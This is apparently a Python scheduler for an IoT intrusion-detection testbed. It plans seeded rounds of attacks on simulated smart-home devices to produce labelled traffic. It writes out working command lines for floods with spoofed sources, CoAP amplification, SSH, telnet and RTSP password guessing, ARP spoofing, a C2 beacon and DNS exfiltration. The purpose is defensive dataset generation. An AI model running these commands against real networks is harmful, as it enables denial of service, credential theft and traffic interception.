"""Which attacks the second home suffers, drawn from the session's seed, in two rounds.

Every class is run in both rounds, with other options in the second, so that the flows before the second round can be
learned from and those after it be judged. Classes that the first home has too are made by other programs, or by the
same with other options. Two classes come from the plug, which is infected: they run beside the others.
"""

from pathlib import Path
from random import Random

from testbed.schedule import LISTS, Attack, hping, in_order, word_list

TOOLS = "testbed.second_home.tools"
PAYLOADS = Path(__file__).with_name("payloads")
COAP_BYTES = str((PAYLOADS / "coap-core.bin").stat().st_size)
CLASSES = (
    "Benign", "Intense scan", "SYN scan", "UDP scan", "SYN flood", "UDP flood", "HTTP flood", "Slow HTTP",
    "MQTT brute force", "SSH brute force", "ARP MITM", "Telnet brute force", "RTSP brute force", "C2 beacon",
    "DNS exfiltration", "CoAP amplification", "UPnP abuse", "Slow scan",
)  # fmt: skip
NEW = CLASSES[11:]
INFECTED = "plug"
PAUSES_US = (2000, 4000, 7000, 12000)  # between two packets of hping3
NEVER_CALLED = ("nas", "laptop", "tablet", "camera")  # by the plug, nor do they call it
PROGRAMS = {
    "nmap": "nmap", "nping": "nmap", "hping3": "hping3", "ab": "apache2-utils", "slowhttptest": "slowhttptest",
    "hydra": "hydra", "ncrack": "ncrack", "arpspoof": "dsniff", "timeout": "coreutils",
}  # fmt: skip


def plan_rounds(seed: int, small: bool = False) -> list[list[Attack]]:
    """The attacks of a session in two rounds, each in order, the same for the same seed."""
    random = Random(f"second attacks {seed}")
    if small:
        short = [telnet_guesses(random, "mirai", 6), coap_amplification(random, "air-sensor", 40)]
        return [[beacon(random, "plain", 6, 2), short[0], dns_tunnel(random, "attacker", 12)],
                [short[1], upnp_abuse(random, 8), mitm(random, ("tablet",), "router", 12)]]  # fmt: skip
    return [_round(random, first) for first in (True, False)]


def _round(random: Random, first: bool) -> list[Attack]:
    """One round: every class, in the variant of that round."""
    beside = [beacon(random, "plain" if first else "tls", 60, 6), slow_scan(random, first)]
    return [*beside, *in_order(random, [*_floods_and_scans(random, first), *_guesses_and_others(random, first)])]


def _floods_and_scans(random: Random, first: bool) -> list[Attack]:
    """What shows by its number of flows."""
    sensors = random.sample(("air-sensor", "water-meter"), 2)
    return [
        intense_scan(random, "camera" if first else "nas"), intense_scan(random, "speaker" if first else "router"),
        syn_scan(random, "nas" if first else "camera", "hping3"),
        syn_scan(random, "router" if first else "hub", "nmap"),
        udp_scan(random, "hub" if first else "camera", "nping"), udp_scan(random, "nas", "nmap"),
        syn_flood(random, "camera", "own" if first else "random", 450),
        syn_flood(random, "nas", "one" if first else "own", 450),
        udp_flood(random, "console", False, 450), udp_flood(random, "speaker" if first else "camera", not first, 450),
        http_flood(random, "camera", 240), http_flood(random, "nas", 140),
        coap_amplification(random, sensors[0], 200), coap_amplification(random, "hub", 150),
    ]  # fmt: skip


def _guesses_and_others(random: Random, first: bool) -> list[Attack]:
    """What needs a log-in, a victim's trust, or time."""
    return [
        slow_http(random, "camera" if first else "nas", "-X" if first else "-H"),
        mqtt_guesses(random, 130), ssh_guesses(random, "nmap" if first else "ncrack"),
        telnet_guesses(random, "mirai", 120), telnet_guesses(random, "hydra", 8 if first else 14),
        rtsp_guesses(random, 6 if first else 10),
        dns_tunnel(random, "attacker", 160), dns_tunnel(random, INFECTED, 120), upnp_abuse(random, 130),
        mitm(random, ("phone",) if first else ("tablet",), "router", random.randint(45, 55)),
        mitm(random, ("camera",) if first else ("laptop",), "nas" if first else "camera", random.randint(45, 55)),
    ]  # fmt: skip


def own_tool(name: str, target: str, count: int, seconds: int, random: Random, **options: object) -> tuple[str, ...]:
    """The command of one of our tools, bounded by count and seconds."""
    more = [f"--{key}={value}" for key, value in options.items()]
    bounds = ("--count", str(count), "--seconds", str(seconds), "--seed", str(random.getrandbits(32)))
    return ("python", "-m", f"{TOOLS}.{name}", f"{{{target}}}", *bounds, *more)


def intense_scan(random: Random, victim: str) -> Attack:
    """Ports, versions and system, lighter than Zenmap's, with scripts that ask home devices."""
    scripts = random.choice(("banner,http-title,rtsp-methods", "http-headers,upnp-info", "ssl-cert,coap-resources"))
    argv = (
        "nmap", "-sS", "-sV", "--version-intensity", str(random.randint(1, 3)), "-O", "--script", scripts, "-T4", "-Pn",
        "--top-ports", str(random.randint(250, 450)), "--host-timeout", "40s", f"{{{victim}}}",
    )  # fmt: skip
    return Attack("Intense scan", (victim,), (argv,), limit_s=45, expected_s=30)


def syn_scan(random: Random, victim: str, tool: str) -> Attack:
    """Half-open: hping3's own scan, or nmap in order of ports, without its usual list, with data."""
    most = random.randint(350, 550)
    if tool == "hping3":
        argv = ("hping3", "--scan", f"1-{most}", "-S", "-n", f"{{{victim}}}")
    else:
        argv = (
            "nmap", "-sS", "-Pn", "-n", "-r", "-p", f"{1000 - most // 2}-{1000 + most // 2}", "--max-retries", "1",
            "--min-rate", "150", "--max-rate", "300", "--data-length", str(random.choice((8, 24))), "--host-timeout",
            "20s", f"{{{victim}}}",
        )  # fmt: skip
    return Attack("SYN scan", (victim,), (argv,), limit_s=25, expected_s=6)


def udp_scan(random: Random, victim: str, tool: str) -> Attack:
    """A UDP scan: nmap with payloads of its own length, or nping, one datagram a port."""
    if tool == "nmap":
        argv = (
            "nmap", "-sU", "-Pn", "-n", "-p", f"{random.randint(40, 60)}-{random.randint(170, 200)},1900,5353,5683",
            "--data-length", str(random.randint(8, 60)), "--max-rate", "25", "--min-rate", "15", "--max-retries", "0",
            "--host-timeout", "30s", f"{{{victim}}}",
        )  # fmt: skip
        return Attack("UDP scan", (victim,), (argv,), limit_s=35, expected_s=9)
    ports = f"{random.randint(500, 520)}-{random.randint(620, 650)}"
    argv = ("nping", "--udp", "-p", ports, "-c", "1", "--rate", "20", "--data-length", "16", "-N", f"{{{victim}}}")
    return Attack("UDP scan", (victim,), (argv,), limit_s=25, expected_s=8)


def syn_flood(random: Random, victim: str, source: str, packets: int) -> Attack:
    """Half-open connections to the victim's services, with time stamps and another TTL, in two bursts."""
    forged = {
        "own": (), "one": ("--spoof", f"203.0.113.{random.randint(1, 254)}"), "random": ("--rand-source",)
    }[source]  # fmt: skip
    services = {"camera": ("80", "554", "23"), "nas": ("443", "8883", "22")}[victim]
    bursts = [
        ("-S", "-p", port, "--tcp-timestamp", "-t", str(random.choice((54, 128))), "--win",
         str(random.choice((1024, 5840, 29200))), *forged)
        for port in random.sample(services, 2)
    ]  # fmt: skip
    return hping("SYN flood", victim, bursts, random, packets, PAUSES_US)


def udp_flood(random: Random, victim: str, forged: bool, packets: int) -> Attack:
    """Datagrams to services of the home's devices and to ports above them, some forged."""
    bursts = []
    for _ in range(3):
        port = random.choice(("3074", "5683", "5353", "1900", f"++{random.randint(20000, 50000)}"))
        options = ("--udp", "-p", port, "--data", str(random.choice((0, 18, 64, 512, 1200))))
        bursts.append((*options, *(("--rand-source",) * forged)))
    return hping("UDP flood", victim, bursts, random, packets, PAUSES_US)


def coap_amplification(random: Random, victim: str, packets: int) -> Attack:
    """Requests for the list of resources under a forged address, which gets the long answers."""
    forged = ("--spoof", f"203.0.113.{random.randint(1, 254)}")
    payload = ("--file", str(PAYLOADS / "coap-core.bin"), "--data", COAP_BYTES)
    bursts = [("--udp", "-p", "5683", "-s", str(random.randint(2000, 50000)), *payload, *forged)]
    return hping("CoAP amplification", victim, bursts, random, packets, PAUSES_US)


def http_flood(random: Random, victim: str, requests: int) -> Attack:
    """Pages with a query of their own each, then the same page over kept connections or over TLS."""
    how = {"how": "tls"} if victim == "nas" else {}
    url = f"https://{{{victim}}}/" if victim == "nas" else f"http://{{{victim}}}/login.html"
    commands = (
        own_tool("http_flood", victim, requests, 12, random, **how),
        ("ab", "-q", "-r", "-s", "4", "-n", str(requests // 2), "-c", str(random.choice((4, 15))), url),
    )
    return Attack("HTTP flood", (victim,), commands, limit_s=25, expected_s=6)


def slow_http(random: Random, victim: str, mode: str) -> Attack:
    """Answers read in drips (slow read, -X), or headers that never end, over TLS."""
    url = f"https://{{{victim}}}/" if victim == "nas" else f"http://{{{victim}}}/login.html"
    drip = ("-w", "10", "-y", "40", "-n", "4", "-z", "16", "-k", "2") if mode == "-X" else ("-i", "4", "-x", "12")
    argv = (
        "slowhttptest", mode, "-c", str(random.randint(70, 110)), "-r", "20", *drip, "-l", "20", "-p", "5", "-u", url,
    )  # fmt: skip
    return Attack("Slow HTTP", (victim,), (argv,), limit_s=32, expected_s=21)


def mqtt_guesses(random: Random, guesses: int) -> Attack:
    """Passwords for the broker over TLS."""
    argv = own_tool("mqtt_guess", "nas", guesses, 20, random, pause=0.02)
    return Attack("MQTT brute force", ("nas",), (argv,), limit_s=25, expected_s=6)


def ssh_guesses(random: Random, tool: str) -> Attack:
    """Passwords for the NAS's shell by nmap's script, or by ncrack, which takes few on each connection."""
    if tool == "nmap":
        lists = f"userdb={LISTS / 'users.txt'},passdb={LISTS / 'passwords.txt'}"
        bounds = "ssh-brute.timeout=4s,brute.threads=5,unpwdb.timelimit=6s"
        script = ("--script", "ssh-brute", "--script-args", f"{lists},{bounds}")
        argv = ("nmap", "-Pn", "-n", "-p", "22", *script, "--host-timeout", "25s", "{nas}")
    else:
        users, passwords = random.sample(word_list("users.txt"), 3), random.sample(word_list("passwords.txt"), 40)
        words = ("--user", ",".join(users), "--pass", ",".join(passwords))
        argv = ("ncrack", *words, "-g", f"CL={random.randint(4, 6)},at=1,to=25s", "ssh://{nas}:22")
    return Attack("SSH brute force", ("nas",), (argv,), limit_s=30, expected_s=14)


def telnet_guesses(random: Random, tool: str, number: int) -> Attack:
    """Passwords for the camera's telnet: so many factory ones as Mirai tries them, or hydra's list, so many at once."""
    if tool == "mirai":
        argv = own_tool("telnet", "camera", number, 28, random)
    else:
        user = random.choice(word_list("users.txt"))
        argv = ("hydra", "-I", "-l", user, "-P", str(LISTS / "passwords.txt"), "-t", str(number), "telnet://{camera}")
    return Attack("Telnet brute force", ("camera",), (argv,), limit_s=30, expected_s=28)


def rtsp_guesses(random: Random, at_once: int) -> Attack:
    """Passwords for the camera's stream."""
    user = random.choice(word_list("users.txt"))
    argv = ("hydra", "-I", "-l", user, "-P", str(LISTS / "passwords.txt"), "-t", str(at_once), "rtsp://{camera}")
    return Attack("RTSP brute force", ("camera",), (argv,), limit_s=25, expected_s=5)


def beacon(random: Random, how: str, count: int, pause: int) -> Attack:
    """The infected plug reports to its command server, beside everything else."""
    seconds = int(count * pause * 1.1) + 5
    argv = own_tool("beacon", "c2", count, seconds, random, pause=pause, how=how)
    return Attack("C2 beacon", (INFECTED,), (argv,), seconds + 15, seconds, source=INFECTED, background=True)


def slow_scan(random: Random, first: bool) -> Attack:
    """The infected plug looks at a port every few seconds, where it has no business, beside everything else."""
    pause = str(random.choice((2, 3)))
    ports = "21-23,80,81,139,443,445,554,1883,2323,3389,5555,8080,8443,8883,9000,49152"
    targets = random.sample(NEVER_CALLED, 2) if first else random.sample(NEVER_CALLED, 3)
    commands = tuple(
        ("nmap", "-sS", "-Pn", "-n", "--scan-delay", f"{pause}s", "--max-retries", "0", "-p", ports, "--host-timeout",
         "90s", f"{{{target}}}")
        for target in targets
    )  # fmt: skip
    seconds = 100 * len(targets)
    return Attack("Slow scan", tuple(targets), commands, seconds, seconds, source=INFECTED, background=True)


def dns_tunnel(random: Random, source: str, count: int) -> Attack:
    """Data in the names of DNS questions: the attacker asks the home's resolver, the plug the attacker's own server."""
    target, how = ("router", "apart") if source == "attacker" else ("c2-names", "together")
    argv = own_tool("dns_tunnel", target, count, 25, random, pause=0.08, how=how)
    return Attack("DNS exfiltration", (source,) if source == INFECTED else ("router",), (argv,), 30, 15, source=source)


def upnp_abuse(random: Random, count: int) -> Attack:
    """Ports opened at the router, and its events sent elsewhere."""
    argv = own_tool("upnp", "router", count, 25, random, pause=0.08)
    return Attack("UPnP abuse", ("router",), (argv,), limit_s=30, expected_s=14)


def mitm(random: Random, devices: tuple[str, ...], server: str, seconds: int) -> Attack:
    """Forged ARP replies to a device and the router or the NAS, both ways; the kernel of the attacker relays."""
    targets = tuple(word for device in random.sample(devices, len(devices)) for word in ("-t", f"{{{device}}}"))
    argv = ("arpspoof", "-i", "eth0", *targets, "-r", f"{{{server}}}")
    return Attack("ARP MITM", (*devices, server), (argv,), limit_s=seconds, expected_s=seconds + 9, relayed=True)
